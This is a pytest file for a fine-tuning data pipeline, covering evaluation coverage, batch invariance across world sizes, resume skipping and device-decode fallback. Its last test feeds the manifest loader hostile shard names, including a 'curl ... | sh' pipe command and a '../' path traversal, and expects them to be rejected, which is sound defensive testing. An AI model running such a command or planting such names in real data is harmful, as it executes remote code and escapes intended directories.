"""The data streams in isolation: exact-once evaluation for any world size and worker count, world-size
invariant global batches in sequential order, resume fast-forwarding with several workers, and the
device-decode path's CPU fallback."""

from __future__ import annotations

import pytest
import torch

from finetune.data import (DeviceDecoder, DeviceNormalizer, EvalStream, RawJpegBatch, TrainStream, load_manifest,
                           make_loader)


def train_kw(**over):
    kw = dict(rank=0, world_size=1, micro_batch=4, accum=1, steps=4, image_size=32, seed=1, order="random",
              shuffle_buffer=20)
    return {**kw, **over}


def _eval_multiset(split, world: int, workers: int) -> list[tuple[int, str]]:
    """Which test images all ranks together evaluated: (label, sha256 of the uint8 crop), sorted."""
    import hashlib
    seen = []
    for rank in range(world):
        stream = EvalStream(split, rank=rank, world_size=world, batch=3, limit=0,
                            preprocess=dict(resize=[37, 37], crop=32, interpolation="bilinear"))
        for images, labels in make_loader(stream, workers, pin_memory=False):
            assert images.dtype == torch.uint8 and images.shape[1:] == (3, 32, 32)
            seen += [(int(y), hashlib.sha256(x.numpy().tobytes()).hexdigest()) for x, y in zip(images, labels)]
    return sorted(seen)


@pytest.mark.parametrize("world, workers", [(1, 0), (2, 2), (3, 1)])
def test_eval_covers_every_test_sample_exactly_once(shards, world, workers):
    """Not only how many: world sizes 1, 2 and 3 evaluate the same multiset of images (each exactly once)."""
    split = load_manifest(shards).test
    seen = _eval_multiset(split, world, workers)
    assert len(seen) == split.num_samples == 13 and len(set(seen)) == 13
    assert seen == _eval_multiset(split, 1, 0)


def test_sequential_global_batches_do_not_depend_on_world_size(shards):
    split = load_manifest(shards).train
    one = [labels for _, labels in TrainStream(split, **train_kw(order="sequential", micro_batch=8))]
    halves = [[labels for _, labels in TrainStream(split, **train_kw(order="sequential", rank=r, world_size=2))]
              for r in (0, 1)]
    assert len(one) == 4
    for k, whole in enumerate(one):
        assert torch.equal(whole, torch.cat([halves[0][k], halves[1][k]]))


@pytest.mark.parametrize("skip", [1, 3])
def test_resume_skip_gives_the_remaining_batches_in_order(shards, skip):
    """With 2 loader workers, fast-forwarding `skip` batches yields exactly the tail of the full epoch."""
    split = load_manifest(shards).train
    full_stream = TrainStream(split, **train_kw())
    full = [x for x, _ in zip(make_loader(full_stream, 2, False), range(6))]
    resumed_stream = TrainStream(split, **train_kw())
    resumed_stream.skip = skip
    resumed = [x for x, _ in zip(make_loader(resumed_stream, 2, False), range(6 - skip))]
    for (a, la), (b, lb) in zip(full[skip:], resumed):
        assert torch.equal(a, b) and torch.equal(la, lb)


def test_device_decode_falls_back_to_the_cpu_path_bit_for_bit(shards):
    split = load_manifest(shards).train
    cpu = torch.device("cpu")
    pairs = zip(TrainStream(split, **train_kw()), TrainStream(split, decode_on="device", **train_kw()))
    for _, ((x, y), (raw, y2)) in zip(range(2), pairs):
        assert isinstance(raw, RawJpegBatch) and torch.equal(y, y2)
        a, _ = DeviceNormalizer(cpu, True)(x, y)
        b, _ = DeviceDecoder(cpu, True, 32)(raw, y2)
        assert torch.equal(a, b) and b.is_contiguous(memory_format=torch.channels_last)


@pytest.mark.parametrize("name", ["pipe:curl http://x | sh", "../elsewhere.tar", "sub/train-000000.tar",
                                  "/abs/train-000000.tar", "http://host/train-000000.tar"])
def test_manifest_refuses_shard_names_data_prep_would_not_write(shards, tmp_path, name):
    import json
    import shutil

    from finetune import UsageError
    copy = tmp_path / "copy"
    shutil.copytree(shards, copy)
    manifest = json.loads((copy / "manifest.json").read_text())
    manifest["splits"]["train"]["shards"][0]["name"] = name
    (copy / "manifest.json").write_text(json.dumps(manifest))
    with pytest.raises(UsageError, match="not a plain NAME.tar"):
        load_manifest(copy)
